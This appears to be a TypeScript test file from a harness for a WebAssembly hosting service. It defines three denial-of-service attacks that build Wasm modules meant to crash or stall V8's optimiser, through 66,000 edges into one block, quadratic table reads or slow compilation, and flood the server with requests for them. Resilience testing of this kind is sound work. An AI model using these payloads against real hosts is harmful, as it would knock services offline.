import { terrariumGuest } from '../assemble.ts';
import type { Attack } from '../attack.ts';
import { flood } from '../clients.ts';

/** V8's optimiser ends the process at the 65,536th edge into a block. */
const fatalEdges = 66_000;
/** Each is nothing for the baseline compiler, and they are quadratic for the optimiser. */
const dearReads = 50_000;
const owners = 5;
const dearBranches = 20_000;

/** The function `$costly` calls `run`'s body often enough that V8 finds it hot. */
function hotGuest(costly: string, more = ''): Promise<Uint8Array> {
  const loop = `(local $left i32) (local.set $left (i32.const 5))
    (loop $again
      (drop (call $costly (i32.const 0)))
      (br_if $again (local.tee $left (i32.sub (local.get $left) (i32.const 1)))))`;
  const functions = `${more} (func $costly (param $x i32) (result i32) ${costly})`;
  return terrariumGuest(loop, functions);
}

const requestOf = (owner: string, path: string) => (port: number) => ({
  port,
  host: `${owner}.example`,
  path,
});

/** Row 1: code that ends the process when it is optimised, by branches and by calls. */
export const optimiserKiller: Attack = {
  name: 'optimiser-killer',
  what: 'functions with 66,000 edges into one block, hot: V8 ends the process',
  async prepare(stage) {
    const branches = '(drop) (local.get $x) (br_if 0 (local.get $x)) '.repeat(fatalEdges);
    const calls = '(call $any) '.repeat(fatalEdges);
    const caught = `(if (local.get $x) (then (try (do ${calls}) (catch_all)))) (local.get $x)`;
    const byBranches = hotGuest(`(block (result i32) (i32.const 1) ${branches})`);
    stage.put('mallory', 'branches.wasm', await byBranches);
    stage.put('mallory', 'calls.wasm', await hotGuest(caught, '(func $any)'));
    stage.name('mallory.example', 'mallory');
  },
  attack: ({ port }, signal) => {
    const [branches, calls] = ['/branches.wasm', '/calls.wasm'].map((path) =>
      requestOf('mallory', path),
    );
    let count = 0;
    const next = () => ((count++ % 2 === 0 ? branches : calls) ?? requestOf('mallory', '/'))(port);
    return flood(next, { connections: 8, signal });
  },
};

/** Row 2: quadratic for the optimiser alone. */
export const optimiserHog: Attack = {
  name: 'optimiser-hog',
  what: '50,000 reads of a table behind a branch never taken, hot, for five owners',
  async prepare(stage) {
    const reads = '(drop (table.get 0 (local.get $x))) '.repeat(dearReads);
    for (let number = 0; number < owners; number += 1) {
      const body = `(if (local.get $x) (then ${reads})) (i32.const ${number})`;
      stage.put(`hog${number}`, 'hog.wasm', await hotGuest(body, '(table 1 funcref)'));
      stage.name(`hog${number}.example`, `hog${number}`);
    }
  },
  attack: ({ port }, signal) => {
    let count = 0;
    const next = () => requestOf(`hog${count++ % owners}`, '/hog.wasm')(port);
    return flood(next, { connections: 10, signal });
  },
};

/** Row 17: one owner's modules that take long to judge, changed without end. */
export const trialQueue: Attack = {
  name: 'trial-queue',
  what: 'five modules of one owner that take long to compile, asked for at once',
  async prepare(stage) {
    const ifs = '(if (local.get $x) (then (local.set $x (i32.const 1)))) '.repeat(dearBranches);
    for (let number = 0; number < owners; number += 1) {
      const body = `${ifs} (i32.const ${number})`;
      stage.put('mallory', `slow${number}.wasm`, await hotGuest(body));
    }
    stage.name('mallory.example', 'mallory');
  },
  attack: ({ port }, signal) => {
    let count = 0;
    const next = () => requestOf('mallory', `/slow${count++ % owners}.wasm`)(port);
    return flood(next, { connections: 5, signal });
  },
};
